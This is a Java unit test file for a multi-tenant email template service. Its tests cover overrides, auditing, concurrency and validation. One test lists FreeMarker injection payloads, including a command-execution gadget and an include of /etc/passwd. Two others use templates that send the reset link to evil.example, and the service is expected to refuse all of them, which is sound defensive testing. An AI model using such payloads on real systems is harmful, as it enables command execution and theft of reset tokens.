/* SPDX-License-Identifier: Apache-2.0 */
package org.lumoauth.platform.messaging.template;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.lumoauth.testkit.builder.TestBuilders.aTenant;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Set;
import org.lumoauth.api.audit.AuditInitiator;
import org.lumoauth.api.message.MessageTemplateProvider;
import org.lumoauth.api.message.MessageTemplateProvider.MessageTemplate;
import org.lumoauth.api.tenant.TenantContext;
import org.lumoauth.api.web.ApiException;
import org.lumoauth.platform.persistence.testkit.DatabaseTest;
import org.lumoauth.platform.persistence.testkit.TestDatabase;
import org.lumoauth.testkit.fake.FakeAuditLog;
import org.lumoauth.testkit.fake.FakeProviderRegistry;
import org.lumoauth.testkit.race.ConcurrentRunner;

class EmailTemplateServiceTest {
  private static final TenantContext ACME = aTenant().build();
  private static final TenantContext GLOBEX = aTenant("globex").build();
  private static final AuditInitiator ADMIN = AuditInitiator.server("test");
  private static final Locale EN = Locale.ENGLISH;
  private static final MessageTemplate OWN =
      new MessageTemplate(
          Optional.of("Hello"), "Open ${link}", Optional.of("<a href=\"${link}\">Open</a>"));

  private final FakeAuditLog audit = new FakeAuditLog();

  @DatabaseTest
  void returnsModuleTemplateUntilTenantOverridesIt(TestDatabase database) {
    var templates = room(database);

    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
    assertEquals("Reset ${link}", templates.get(ACME, "reset", EN).content().text());

    templates.put(ACME, "reset", EN, OWN, true, ADMIN);
    assertEquals(OWN, templates.get(ACME, "reset", EN).content());
  }

  @DatabaseTest
  void isolatesTenantsAndLanguages(TestDatabase database) {
    var templates = room(database);
    templates.put(ACME, "reset", EN, OWN, true, ADMIN);

    assertFalse(templates.get(GLOBEX, "reset", EN).custom().isPresent());
    assertFalse(templates.get(ACME, "reset", Locale.GERMAN).custom().isPresent());
  }

  @DatabaseTest
  void resetsTemplateOnce(TestDatabase database) {
    var templates = room(database);
    templates.put(ACME, "reset", EN, OWN, true, ADMIN);

    templates.reset(ACME, "reset", EN, ADMIN);

    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
    var again = assertThrows(ApiException.class, () -> templates.reset(ACME, "reset", EN, ADMIN));
    assertEquals(404, again.status());
  }

  @DatabaseTest
  void auditsOldAndNewContent(TestDatabase database) {
    room(database).put(ACME, "reset", EN, OWN, true, ADMIN);

    var event = audit.last(ACME.id()).event();
    assertEquals("email_template.changed", event.action());
    assertTrue(event.details().get("old").toString().contains("Reset ${link}"));
    assertTrue(event.details().get("new").toString().contains("Open ${link}"));
  }

  @DatabaseTest
  void auditsEveryConcurrentFirstChange(TestDatabase database) throws Exception {
    var templates = room(database);

    for (int round = 0; round < 10; round++) {
      ConcurrentRunner.runAll(
          4,
          writer -> {
            var content =
                new MessageTemplate(Optional.empty(), writer + " ${link}", Optional.empty());
            return templates.put(ACME, "reset", EN, content, true, ADMIN);
          });
      templates.reset(ACME, "reset", EN, ADMIN); // displaces the last
    }

    var put = texts("new");
    put.addAll(Collections.nCopies(10, "Reset ${link}"));
    assertEquals(put.stream().sorted().toList(), texts("old").stream().sorted().toList());
  }

  private List<String> texts(String side) {
    List<String> texts = new ArrayList<>();
    audit.of(ACME.id()).stream()
        .map(record -> (Map<?, ?>) record.event().details().get(side))
        .filter(Objects::nonNull)
        .forEach(template -> texts.add((String) template.get("text")));
    return texts;
  }

  @DatabaseTest
  void changesNothingIfAuditIsUnavailable(TestDatabase database) {
    var templates = room(database);
    audit.unavailable();

    assertThrows(ApiException.class, () -> templates.put(ACME, "reset", EN, OWN, true, ADMIN));
    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
  }

  @DatabaseTest
  void returnsNotFoundForUnknownTemplate(TestDatabase database) {
    assertEquals(
        404,
        assertThrows(ApiException.class, () -> room(database).get(ACME, "other", EN)).status());
  }

  @DatabaseTest
  void failsIfTemplateProviderIsUnavailable(TestDatabase database) {
    var templates = room(database);
    registry.withUnavailable(MessageTemplateProvider.class, "registration", "authn-registration");

    var refusal = assertThrows(ApiException.class, () -> templates.get(ACME, "other", EN));

    assertEquals(503, refusal.status());
    assertEquals("authn-registration", refusal.details().get("module"));
    assertEquals("Reset ${link}", templates.get(ACME, "reset", EN).content().text());
  }

  @DatabaseTest
  void failsIfTemplateProviderReturnsDuringLookup(TestDatabase database) {
    var templates = room(database);
    registry.withRecoveringAfterAcquire(
        MessageTemplateProvider.class, "registration", "authn-registration", new One("welcome"));

    var refusal = assertThrows(ApiException.class, () -> templates.get(ACME, "welcome", EN));

    assertEquals(503, refusal.status());
    assertEquals("Reset ${link}", templates.get(ACME, "welcome", EN).content().text());
  }

  @DatabaseTest
  void rejectsTemplateWithoutLink(TestDatabase database) {
    var without = new MessageTemplate(Optional.of("Hello"), "Hello", Optional.empty());

    assertRefused("body_text", database, without);
  }

  @DatabaseTest
  void rejectsTemplateDirectivesAndExpressions(TestDatabase database) {
    for (String text :
        new String[] {
          "<#list 1..1000000000 as x>${link}</#list>",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
          "${link?left_pad(1000000000)}",
          "${other}",
          "#{link}",
          "<@link/>",
          "[#assign x=1]",
          "[=link]",
          "<#include \"/etc/passwd\">"
        }) {
      assertRefused(
          "body_text",
          database,
          new MessageTemplate(Optional.of("x"), "${link} " + text, Optional.empty()));
    }
  }

  @DatabaseTest
  void rejectsHtmlThatLeaksLink(TestDatabase database) {
    var content =
        new MessageTemplate(
            Optional.of("x"),
            "${link}",
            Optional.of(
                "<a href=\"${link}\">Open</a><img src=\"https://evil.example/b?x=${link}\">"));

    assertRefused("body_html", database, content);
  }

  @DatabaseTest
  void rejectsTextThatLeaksLink(TestDatabase database) {
    assertRefused(
        "body_text",
        database,
        new MessageTemplate(Optional.of("x"), "https://evil.example/?u=${link}", Optional.empty()));
  }

  @DatabaseTest
  void previewsMessage(TestDatabase database) {
    var templates = room(database);
    var standing = templates.get(ACME, "reset", EN);

    var preview = templates.preview(standing, OWN, Map.of("link", "https://a.example/?x=\"&y"));

    assertEquals("Open https://a.example/?x=\"&y", preview.text());
    assertEquals(
        Optional.of("<a href=\"https://a.example/?x=&quot;&amp;y\">Open</a>"), preview.html());
  }

  @DatabaseTest
  void listsTemplateVariables(TestDatabase database) {
    assertEquals(Set.of("link", "tenant_name"), room(database).variables("reset").keySet());
  }

  @DatabaseTest
  void erasesOnlyDeletedTenant(TestDatabase database) {
    var templates = room(database);
    templates.put(ACME, "reset", EN, OWN, true, ADMIN);
    templates.put(GLOBEX, "reset", EN, OWN, true, ADMIN);

    store.erase(ACME.id());

    assertFalse(templates.get(ACME, "reset", EN).custom().isPresent());
    assertTrue(templates.get(GLOBEX, "reset", EN).custom().isPresent());
  }

  private final FakeProviderRegistry registry =
      new FakeProviderRegistry().with(MessageTemplateProvider.class, "test", new One("reset"));
  private MessageTemplateStore store;

  private void assertRefused(String member, TestDatabase database, MessageTemplate content) {
    var templates = room(database);
    var refusal =
        assertThrows(
            ApiException.class, () -> templates.put(ACME, "reset", EN, content, true, ADMIN));
    assertEquals(member, refusal.details().get("field"));
  }

  private EmailTemplateService room(TestDatabase database) {
    store = MessageTemplateStore.on(database.open(MessageTemplateStore.DEFINITION));
    return new EmailTemplateService(new MessageTemplateRegistry(registry), store, audit);
  }

  /** One template in English. */
  private record One(String name) implements MessageTemplateProvider {
    @Override
    public Set<String> names() {
      return Set.of(name);
    }

    @Override
    public Set<String> variables(String any) {
      return Set.of("link");
    }

    @Override
    public Optional<MessageTemplate> template(String asked, Locale locale) {
      return asked.equals(name) && locale.getLanguage().equals("en")
          ? Optional.of(
              new MessageTemplate(Optional.of("Reset"), "Reset ${link}", Optional.empty()))
          : Optional.empty();
    }
  }
}
